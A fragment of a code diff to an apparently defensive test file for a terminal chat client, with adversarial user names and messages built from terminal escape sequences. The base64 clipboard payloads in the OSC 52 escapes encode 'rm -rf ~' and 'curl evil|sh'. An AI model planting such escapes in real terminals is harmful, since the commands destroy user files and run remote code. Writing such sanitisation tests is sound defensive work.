@@ -3,8 +3,8 @@ import { spawn } from 'child_process'
 import path from 'path'
 import { setup } from '../../harness/agent-net'
 import { eventually } from '../../harness/eventually'
+import { MAIN } from '../../harness/agent'
 
-const MAIN = path.join(__dirname, '..', '..', 'app', 'cli', 'main.js')
 // OSC 52 writes the terminal's clipboard; CSI 2J clears the screen; a newline fakes a line.
 const EVIL_NAME = 'Mallory\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e'
 const EVIL_TEXT = 'hi\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[31m red\x1b[0m\x9b1m\nAlice: fake line'
